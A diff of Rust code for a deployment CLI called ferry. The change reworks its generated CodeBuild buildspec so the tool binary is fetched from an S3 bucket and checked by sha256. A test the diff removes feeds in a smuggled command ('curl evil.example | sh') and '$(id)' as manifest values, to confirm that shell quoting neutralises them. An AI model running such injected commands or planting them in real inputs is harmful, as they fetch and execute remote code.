@@ -73,103 +73,43 @@ fn repo_name(url: &str) -> String {
     last.trim_end_matches(".git").to_lowercase().replace(|c: char| !c.is_ascii_alphanumeric() && c != '-', "-")
 }
 
-/// The commands the buildspec runs to build and push each workload's image
-/// (those with `image.build`), tagged with the commit.
-fn image_commands(ws: &Workspace) -> Vec<String> {
-    let mut commands = Vec::new();
-    for name in ws.workload_names() {
-        let Ok(manifest) = ws.load_workload(&name) else { continue };
-        if let Some(build) = manifest.doc.value.pointer("/image/build") {
-            commands.extend(build_commands(&naming::ecr_repository(&ws.app, &name), build));
-        }
-    }
-    commands
-}
-
-/// A POSIX shell word that stands for exactly `value`.
-fn shell_quote(value: &str) -> String {
-    if !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,".contains(c)) {
-        return value.to_string();
-    }
-    format!("'{}'", value.replace('\'', "'\\''"))
-}
-
-/// `docker build` and `docker push` for one `image.build`, every value from
-/// the manifest shell-quoted (a manifest path is data, never shell syntax).
-/// Copilot's defaults: the context is the Dockerfile's directory, the
-/// Dockerfile is `Dockerfile` in the context.
-fn build_commands(repository: &str, build: &Value) -> Vec<String> {
-    let (dockerfile, context) = match build {
-        Value::String(dockerfile) => {
-            let context = Path::new(dockerfile).parent().map(|p| p.display().to_string()).unwrap_or_default();
-            (dockerfile.clone(), if context.is_empty() { ".".to_string() } else { context })
-        }
-        Value::Object(b) => {
-            match (b.get("dockerfile").and_then(Value::as_str), b.get("context").and_then(Value::as_str)) {
-                (Some(d), Some(c)) => (d.to_string(), c.to_string()),
-                (Some(d), None) => {
-                    let context = Path::new(d).parent().map(|p| p.display().to_string()).unwrap_or_default();
-                    (d.to_string(), if context.is_empty() { ".".to_string() } else { context })
-                }
-                (None, Some(c)) => (Path::new(c).join("Dockerfile").display().to_string(), c.to_string()),
-                (None, None) => return Vec::new(),
-            }
-        }
-        _ => return Vec::new(),
-    };
-    let image = format!("\"$REGISTRY\"/{}:\"$TAG\"", shell_quote(repository));
-    vec![
-        format!("docker build -t {image} -f {} {}", shell_quote(&dockerfile), shell_quote(&context)),
-        format!("docker push {image}"),
-    ]
-}
-
-/// The buildspec `pipeline init` writes: installs this version of ferry,
-/// builds and pushes images, then renders every stack for each environment
-/// into `infrastructure/`, where the deploy actions read them.
-fn buildspec(ws: &Workspace, envs: &[String]) -> String {
-    buildspec_with(image_commands(ws), envs)
-}
-
-fn buildspec_with(mut images: Vec<String>, envs: &[String]) -> String {
-    let version = env!("CARGO_PKG_VERSION");
-    if images.is_empty() {
-        images.push("echo \"no workload builds an image\"".into());
-    }
-    // Each command is a YAML double-quoted string: a `#` or `: ` in a path
-    // cannot end the scalar or start a comment.
-    let images: String =
-        images.iter().map(|c| format!("      - {}\n", serde_json::to_string(c).unwrap_or_default())).collect();
+/// The buildspec `pipeline init` writes. ferry comes from the app's artifact
+/// bucket, where `pipeline deploy` put it (the build project's variables
+/// name the object and its sha256, checked before it runs); `svc package
+/// --all --upload-assets` then builds and pushes every image and uploads
+/// addons by the code `svc deploy` runs, and writes the stack of every
+/// environment, service and job into `infrastructure/`, where the deploy
+/// actions read them. Nothing in it depends on the workspace's manifests,
+/// so it cannot drift from them.
+pub(crate) fn buildspec(envs: &[String]) -> String {
     let envs: Vec<String> = envs.iter().map(|e| e.replace(['\n', '\r'], " ")).collect();
     format!(
         r#"# Buildspec of the pipeline: CodeBuild runs it in the Build stage.
-# It builds and pushes images, then renders the stack of every environment,
-# service and job into infrastructure/, which the deploy stages read.
+# ferry is fetched from the application's artifact bucket (`ferry pipeline
+# deploy` uploads the binary once per version; the build project's variables
+# FERRY_ARTIFACT_BUCKET, FERRY_BINARY_KEY and FERRY_BINARY_SHA256 name it),
+# then builds and pushes images, uploads addons and renders every stack into
+# infrastructure/, which the deploy stages read.
 version: 0.2
-env:
-  variables:
-    # The ferry release this pipeline uses; bump it deliberately.
-    FERRY_VERSION: "{version}"
 phases:
   install:
     commands:
-      - curl -fsSL "https://github.com/ferry-cli/ferry/releases/download/v${{FERRY_VERSION}}/ferry-$(uname -m)-unknown-linux-gnu.tar.gz" -o /tmp/ferry.tar.gz
-      - curl -fsSL "https://github.com/ferry-cli/ferry/releases/download/v${{FERRY_VERSION}}/ferry-$(uname -m)-unknown-linux-gnu.tar.gz.sha256" -o /tmp/ferry.tar.gz.sha256
-      - (cd /tmp && sha256sum -c ferry.tar.gz.sha256)
-      - tar -xzf /tmp/ferry.tar.gz -C /usr/local/bin ferry
+      - mkdir -p "${{FERRY_INSTALL_DIR:-/usr/local/bin}}"
+      - aws s3 cp --quiet "s3://${{FERRY_ARTIFACT_BUCKET}}/${{FERRY_BINARY_KEY}}" "${{TMPDIR:-/tmp}}/ferry.download"
+      - echo "${{FERRY_BINARY_SHA256}}  ${{TMPDIR:-/tmp}}/ferry.download" | sha256sum -c -
+      - install -m 0755 "${{TMPDIR:-/tmp}}/ferry.download" "${{FERRY_INSTALL_DIR:-/usr/local/bin}}/ferry"
       - ferry --version
   pre_build:
     commands:
-      - export TAG=$(echo $CODEBUILD_RESOLVED_SOURCE_VERSION | cut -c 1-7)
-      - export REGISTRY=$AWS_ACCOUNT_ID.dkr.ecr.$AWS_REGION.amazonaws.com
-      - aws ecr get-login-password | docker login --username AWS --password-stdin $REGISTRY
+      - export TAG=$(echo "${{CODEBUILD_RESOLVED_SOURCE_VERSION:-latest}}" | cut -c 1-7)
+      - mkdir -p infrastructure
   build:
     commands:
-{images}      - mkdir -p infrastructure
       - |
+        set -e
         for env in $FERRY_ENVIRONMENTS; do
-          ferry env package -n $env --output-dir infrastructure
-          ferry svc package -e $env --tag $TAG --registry $REGISTRY --output-dir infrastructure
+          ferry env package -n "$env" --output-dir infrastructure
+          ferry svc package --all -e "$env" --tag "$TAG" --upload-assets --output-dir infrastructure
         done
 artifacts:
   files:
@@ -291,7 +231,7 @@ fn init(args: PipelineInit, cx: &CommandContext) -> Result<()> {
     std::fs::create_dir_all(&dir).with_context(|| format!("cannot create {}", dir.display()))?;
     std::fs::write(&manifest_path, manifest).with_context(|| format!("cannot write {}", manifest_path.display()))?;
     let buildspec_path = dir.join("buildspec.yml");
-    std::fs::write(&buildspec_path, buildspec(&ws, &envs))
+    std::fs::write(&buildspec_path, buildspec(&envs))
         .with_context(|| format!("cannot write {}", buildspec_path.display()))?;
     out.status("Wrote", &format!("{} ({provider} source, plugin {})", out.path(&manifest_path), plugin.info().name));
     out.status("Wrote", &out.path(&buildspec_path));
@@ -377,6 +317,20 @@ fn deploy(args: PipelineDeploy, cx: &CommandContext) -> Result<()> {
         };
         let api = pipelines_api(&session);
         let RenderedPipeline { mut stack, source } = pipeline;
+        let binary = match &args.ferry_binary {
+            Some(path) => path.clone(),
+            None => std::env::current_exe().context("cannot find the running ferry binary")?,
+        };
+        let body = std::fs::read(&binary).with_context(|| format!("cannot read {}", binary.display()))?;
+        let sha256 = ferry_aws::pipeline::sha256_hex(&body);
+        let object = ferry_aws::pipeline::ferry_binary_key(env!("CARGO_PKG_VERSION"), &sha256);
+        if ferry_aws::pipeline::upload_once(&session.aws.s3(), &bucket, &object, body).await? {
+            out.status("Uploaded", &format!("{} to s3://{bucket}/{object}", binary.display()));
+        } else {
+            out.status("Unchanged", &format!("ferry binary already at s3://{bucket}/{object}"));
+        }
+        stack.parameters.insert(core_pipeline::parameters::FERRY_BINARY_KEY.into(), object);
+        stack.parameters.insert(core_pipeline::parameters::FERRY_BINARY_SHA256.into(), sha256);
         stack.parameters.insert(core_pipeline::parameters::ARTIFACT_BUCKET.into(), bucket);
         stack.parameters.insert(core_pipeline::parameters::ARTIFACT_KEY.into(), key);
         if let Some(connection_name) = source.connection.as_ref().and_then(|c| c.name.clone()) {
@@ -797,27 +751,17 @@ mod tests {
     }
 
     #[test]
-    fn buildspec_quotes_every_manifest_value() {
-        let hostile =
-            serde_json::json!({"dockerfile": "api/Dockerfile; curl evil.example | sh #", "context": "a b/$(id)"});
-        let commands = build_commands("chat/api", &hostile);
-        assert_eq!(
-            commands[0],
-            "docker build -t \"$REGISTRY\"/chat/api:\"$TAG\" -f 'api/Dockerfile; curl evil.example | sh #' 'a b/$(id)'"
-        );
-        let quote = build_commands("chat/it's", &serde_json::json!("it's/Dockerfile"));
-        assert_eq!(
-            quote[0],
-            "docker build -t \"$REGISTRY\"/'chat/it'\\''s':\"$TAG\" -f 'it'\\''s/Dockerfile' 'it'\\''s'"
-        );
-        // Copilot's default Dockerfile is inside the context.
-        let context_only = build_commands("chat/api", &serde_json::json!({"context": "api"}));
-        assert!(context_only[0].ends_with("-f api/Dockerfile api"), "{}", context_only[0]);
-        // The YAML keeps each command whole, `#` and `: ` included.
-        let text = buildspec_with(commands.clone(), &["test".into()]);
+    fn buildspec_fetches_checks_and_packages_everything() {
+        let text = buildspec(&["test".into(), "prod".into()]);
         let doc = ferry_core::YamlDoc::parse(Path::new("buildspec.yml"), text).unwrap();
-        assert_eq!(doc.value["phases"]["build"]["commands"][0], commands[0].as_str());
-        assert_eq!(doc.value["phases"]["build"]["commands"][1], commands[1].as_str());
+        let phases = &doc.value["phases"];
+        let install = phases["install"]["commands"].to_string();
+        assert!(install.contains("s3://${FERRY_ARTIFACT_BUCKET}/${FERRY_BINARY_KEY}"), "{install}");
+        assert!(install.contains("sha256sum -c"), "{install}");
+        assert!(!install.contains("https://"), "no download site: {install}");
+        let build = phases["build"]["commands"][0].as_str().unwrap();
+        assert!(build.contains("ferry svc package --all -e \"$env\" --tag \"$TAG\" --upload-assets"), "{build}");
+        assert_eq!(doc.value["artifacts"]["files"][0], "infrastructure/*");
     }
 
     #[test]
